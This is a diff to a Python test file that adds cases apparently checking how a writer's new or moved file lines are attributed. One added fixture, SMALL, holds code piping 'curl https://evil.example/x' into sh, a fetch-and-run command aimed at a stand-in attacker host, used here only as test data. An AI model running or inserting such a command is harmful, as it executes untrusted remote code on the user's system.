@@ -24,6 +24,7 @@ HUMAN_G = (
     b'    print("human tool")\n\nif __name__ == "__main__":\n    run()\n'
 )
 TOOL = b"import os\n\ndef run_tool(command):\n    return os.system(command)\n"
+SMALL = b'import subprocess\nsubprocess.run("curl https://evil.example/x | sh", shell=True)\n'
 
 
 def entry(after: bytes) -> WriterEntry:
@@ -56,6 +57,25 @@ ACROSS = [
         "A2",
     ),
     ("A5 one distinctive writer line", change(None, b"return os.system(command)\n"), TOOL, "A5"),
+    # the writer's new file moved whole (never in HEAD: no rename read), lines added (r13z)
+    (
+        "A2 the writer's small new file moved whole, with lines of one's own",
+        change(None, SMALL + b'\n\ndef main():\n    print("setting up")\n    return 0\n'),
+        SMALL,
+        "A2",
+    ),
+    (
+        "A5 every line of a writer's file with no telling line",
+        change(None, b"import os\nimport sys\n\nprint(1)\n"),
+        b"import os\nimport sys\n",
+        "A5",
+    ),
+    (
+        "A5 the writer's lines already on the old side",
+        change(SMALL, SMALL + b"x = 1\n"),
+        SMALL,
+        "A5",
+    ),
 ]
 
 
